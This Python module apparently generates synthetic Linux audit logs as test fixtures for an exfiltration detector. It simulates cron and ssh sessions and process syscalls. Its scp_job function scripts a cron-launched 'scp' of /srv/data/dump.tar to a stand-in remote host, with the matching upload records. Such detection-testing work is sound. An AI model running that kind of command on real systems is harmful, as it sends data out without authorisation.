"""Writes small audit logs as the kernel and auditd would (x86-64, RAW format unless enriched)."""
import ipaddress

CALLS = {"read": 0, "openat": 257, "unlinkat": 263, "pipe2": 293, "write": 1, "close": 3, "socket": 41, "connect": 42, "accept": 43, "sendto": 44,
         "clone": 56, "execve": 59, "sendfile": 40, "dup2": 33, "exit_group": 231,
         "sendmsg": 46, "writev": 20, "sendmmsg": 307, "io_uring_setup": 425, "io_uring_enter": 426}
UNSET = 4294967295


def encoded(text):
    """A string field: quoted, or hex where it holds a blank, a quote or a control."""
    raw = text if isinstance(text, bytes) else text.encode()
    if any(b < 0x21 or b > 0x7e or b == 0x22 for b in raw):
        return raw.hex().upper()
    return '"' + raw.decode() + '"'


def saddr(address, port):
    ip = ipaddress.ip_address(address)
    if ip.version == 4:
        return f"0200{port:04X}{ip.packed.hex().upper()}0000000000000000"
    return f"0A00{port:04X}00000000{ip.packed.hex().upper()}00000000"


class Process:
    def __init__(self, story, pid, ppid, exe, comm, uid=0, auid=UNSET, ses=UNSET, tty="(none)"):
        self.__dict__.update(story=story, pid=pid, ppid=ppid, exe=exe, comm=comm, uid=uid,
                             auid=auid, ses=ses, tty=tty, title=comm)

    def call(self, name, exit, a=(), success=None, items=0, records=()):
        a = [*a, 0, 0, 0, 0][:4]
        ok = exit >= 0 if success is None else success
        self.story.event(
            f"type=SYSCALL {{}}: arch=c000003e syscall={CALLS[name]} success={'yes' if ok else 'no'} "
            f"exit={exit} a0={a[0]:x} a1={a[1]:x} a2={a[2]:x} a3={a[3]:x} items={items} "
            f"ppid={self.ppid} pid={self.pid} auid={self.auid} uid={self.uid} gid={self.uid} "
            f"euid={self.uid} suid={self.uid} fsuid={self.uid} egid={self.uid} sgid={self.uid} "
            f"fsgid={self.uid} tty={self.tty} ses={self.ses} comm={encoded(self.comm)} "
            f"exe={encoded(self.exe)} subj=unconfined key=\"auexfil\"", *records,
            f"type=PROCTITLE {{}}: proctitle={encoded(self.title)}")

    def fork(self, pid, **changes):
        """clone(); the child has everything of its parent but what is given."""
        self.call("clone", pid, (0x1200011,))
        child = dict(exe=self.exe, comm=self.comm, uid=self.uid, auid=self.auid, ses=self.ses,
                     tty=self.tty) | changes
        return Process(self.story, pid, self.pid, **child)

    def exec(self, exe, *argv, cwd="/root"):
        name = argv[0] if isinstance(argv[0], str) else exe
        self.exe, self.comm = exe, name.rsplit("/", 1)[-1].lstrip("-")[:15]
        args = " ".join(f"a{i}={encoded(arg)}" for i, arg in enumerate(argv))
        self.title = b"\0".join(a if isinstance(a, bytes) else a.encode() for a in argv)[:128]
        self.call("execve", 0, (0x5581, 0x5582, 0x5583, 8), items=2, records=(
            f"type=EXECVE {{}}: argc={len(argv)} {args}",
            f"type=CWD {{}}: cwd={encoded(cwd)}",
            f"type=PATH {{}}: item=0 name={encoded(exe)} inode=881 dev=fe:00 mode=0100755 ouid=0 "
            "ogid=0 rdev=00:00 nametype=NORMAL"))
        return self

    def connect(self, fd, address, port, exit=0):
        self.call("socket", fd, (10 if ":" in address else 2, 1, 0))
        self.call("connect", exit, (fd, 0x7ffe, 16), success=exit == 0,
                  records=(f"type=SOCKADDR {{}}: saddr={saddr(address, port)}",))

    def accept(self, listening, fd, address, port):
        self.call("accept", fd, (listening, 0x7ffe, 0x7ffe),
                  records=(f"type=SOCKADDR {{}}: saddr={saddr(address, port)}",))

    def write(self, fd, count):
        self.call("write", count, (fd, 0x7ffe, count))

    def close(self, fd):
        self.call("close", 0, (fd,))

    def open(self, fd, path, cwd="/root", flags=0, mode="0100644", folder=0xffffff9c):
        """openat(); a negative number is an error."""
        self.call("openat", fd, (folder, 0x7ffe, flags, 0o644 if flags & 0x40 else 0), items=1,
                  records=(f"type=CWD {{}}: cwd={encoded(cwd)}",
                           f"type=PATH {{}}: item=0 name={encoded(path)} inode=77 dev=fe:00 "
                           f"mode={mode} ouid=0 ogid=0 rdev=00:00 nametype=NORMAL"))

    def read(self, fd, count):
        self.call("read", count, (fd, 0x7ffe, count))

    def load(self, *libraries):
        """What the loader opens, maps and closes."""
        for path in ("/etc/ld.so.cache", *libraries):
            self.open(3, path, flags=0x80000)
            self.close(3)

    def unlink(self, path, cwd="/root"):
        self.call("unlinkat", 0, (0xffffff9c, 0x5581, 0), items=2, records=(
            f"type=CWD {{}}: cwd={encoded(cwd)}",
            f"type=PATH {{}}: item=0 name={encoded(path.rsplit('/', 1)[0] + '/')} inode=2 "
            "dev=fe:00 mode=041777 ouid=0 ogid=0 rdev=00:00 nametype=PARENT",
            f"type=PATH {{}}: item=1 name={encoded(path)} inode=77 dev=fe:00 mode=0100644 ouid=0 "
            "ogid=0 rdev=00:00 nametype=DELETE"))

    def pipe(self, end, other):
        self.call("pipe2", 0, (0x7ffe, 0), records=(f"type=FD_PAIR {{}}: fd0={end} fd1={other}",))

    def dup2(self, old, new):
        self.call("dup2", new, (old, new))

    def upload(self, fd, address, port, *counts):
        self.connect(fd, address, port)
        for count in counts:
            self.write(fd, count)
        self.close(fd)


class Story:
    """Events one after the other, 100 ms apart unless said otherwise."""

    def __init__(self, node=None, start=1796173200.0, serial=100):  # 2026-12-02T01:00:00Z
        self.prefix = f"node={node} " if node else ""
        self.ms, self.serial, self.lines = round(start * 1000), serial, []

    def event(self, *records):
        stamp = f"msg=audit({self.ms // 1000}.{self.ms % 1000:03}:{self.serial})"
        self.lines += [self.prefix + record.replace("{}", stamp, 1) for record in records]
        self.serial += 1
        self.ms += 100

    def wait(self, seconds):
        self.ms += round(seconds * 1000)

    def process(self, pid, ppid, exe, **more):
        return Process(self, pid, ppid, exe, exe.rsplit("/", 1)[-1][:15], **more)

    def user_message(self, type, pid, auid, ses, op, exe, acct, terminal, address="?"):
        self.event(f"type={type} {{}}: pid={pid} uid=0 auid={auid} ses={ses} subj=unconfined "
                   f"msg='op={op} acct=\"{acct}\" exe=\"{exe}\" hostname={address} addr={address} "
                   f"terminal={terminal} res=success'")

    def cron_job(self, command, pid=700, uid=0, ses=3):
        """cron's session and its shell. Returns the shell's process."""
        cron = self.process(300, 1, "/usr/sbin/cron")
        child = cron.fork(pid)
        self.event(f"type=LOGIN {{}}: pid={pid} uid=0 subj=unconfined old-auid={UNSET} auid={uid} "
                   f"tty=(none) old-ses={UNSET} ses={ses} res=1")
        child.auid, child.ses = uid, ses
        self.user_message("USER_START", pid, uid, ses, "PAM:session_open", "/usr/sbin/cron",
                          "root", "cron")
        shell = child.fork(pid + 1, uid=uid)
        return shell.exec("/usr/bin/dash", "/bin/sh", "-c", command)

    def login_shell(self, pid=900, uid=1000, ses=7, tty="pts0", address="192.0.2.7"):
        """alice over ssh with a terminal. Returns her bash."""
        sshd = self.process(400, 1, "/usr/sbin/sshd")
        child = sshd.fork(pid)
        self.event(f"type=LOGIN {{}}: pid={pid} uid=0 subj=unconfined old-auid={UNSET} auid={uid} "
                   f"tty=(none) old-ses={UNSET} ses={ses} res=1")
        child.auid, child.ses = uid, ses
        self.user_message("USER_START", pid, uid, ses, "PAM:session_open", "/usr/sbin/sshd",
                          "alice", "ssh", address)
        self.user_message("USER_LOGIN", pid, uid, ses, "login", "/usr/sbin/sshd", "alice",
                          "/dev/pts/0", address)
        user = child.fork(pid + 1, uid=uid)
        shell = user.fork(pid + 2, tty=tty)
        return shell.exec("/usr/bin/bash", "-bash", cwd="/home/alice")

    def chatter(self, calls=96):
        """A daemon that does a lot and writes a little now and then: without such programs a log
        looks as if only the writes of some, or only large ones, were audited."""
        daemon = self.process(350, 1, "/usr/sbin/chronyd")
        for i in range(calls):
            daemon.close(7)
            if i % 12 == 0:
                daemon.write(2, 40)

    def text(self):
        return "".join(line + "\n" for line in self.lines)


def scp_job(story=None, address="203.0.113.10", sizes=(3000, 120_000_000), pid=700,
            target="drop@203.0.113.10:up/"):
    """The plainest incident: cron, sh, scp, ssh. Sends 120,003,000 bytes by default."""
    story = story or Story()
    shell = story.cron_job(f"scp -q /srv/data/dump.tar {target}", pid=pid)
    scp = shell.fork(pid + 2).exec("/usr/bin/scp", "scp", "-q", "/srv/data/dump.tar", target)
    ssh = scp.fork(pid + 3).exec("/usr/bin/ssh", "/usr/bin/ssh", "-x", "-oPermitLocalCommand=no",
                                 "-oClearAllForwardings=yes", "-oRemoteCommand=none",
                                 "-oRequestTTY=no", "-l", "drop", "-s", "--", address, "sftp")
    ssh.upload(3, address, 22, *sizes)
    return story
